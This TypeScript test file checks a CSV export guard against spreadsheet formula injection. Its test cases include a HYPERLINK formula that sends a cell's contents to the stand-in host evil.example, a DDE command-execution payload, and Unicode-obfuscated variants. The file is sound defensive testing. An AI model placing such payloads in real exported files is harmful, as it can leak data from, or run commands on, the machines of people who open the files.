import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { globSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { expect, test } from 'vitest'
import { repositoryFolder } from '../config.ts'
import { csvLines, unguarded } from './csv.ts'

const cellOf = (text: string): string => parse(csvLines([[text, 'end']]), { relax_quotes: true })[0][0]

test.each([
  `=HYPERLINK("http://evil.example/?"&A1,"报价")`,
  `=cmd|' /C calc'!A0`,
  '+1+cmd',
  '-1+cmd',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '\uFEFF=1',
  '＝1+1',
  '﹦1+1',
  '\u2212cmd',
  '\u200B=1',
  '\u2060@SUM(A1)',
  '+8613800000000',
])('%j is text to a spreadsheet, and comes back as it was', text => {
  expect(cellOf(text)).toBe(`'${text}`)
  expect(unguarded(cellOf(text))).toBe(text)
})

test.each(['-5', '-5.25', '报价', 'a=b', "'quoted'", "it's", '', '2026-01-01', '12'])(
  '%j is harmless as it is',
  text => {
    expect(cellOf(text)).toBe(text)
    expect(unguarded(text)).toBe(text)
  },
)

test('whatever is in a cell, it comes back and begins with nothing that runs', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...`=+-@\t'" ,;1a客＝`), maxLength: 8 }), text => {
      fc.pre(!/^'+[\s=+\-@＝]/.test(text))
      expect(cellOf(text)).not.toMatch(/^[\s]*[=+@＝]/)
      expect(unguarded(cellOf(text))).toBe(text)
    }),
  )
})

test('no file is written any other way', () => {
  const writers = globSync('{server,cli}/**/*.ts', { cwd: repositoryFolder, exclude: ['**/node_modules/**'] }).filter(
    file =>
      !file.endsWith('.test.ts') && readFileSync(path.join(repositoryFolder, file), 'utf8').includes('csv-stringify'),
  )
  expect(writers).toEqual(['server/file/csv.ts'])
})
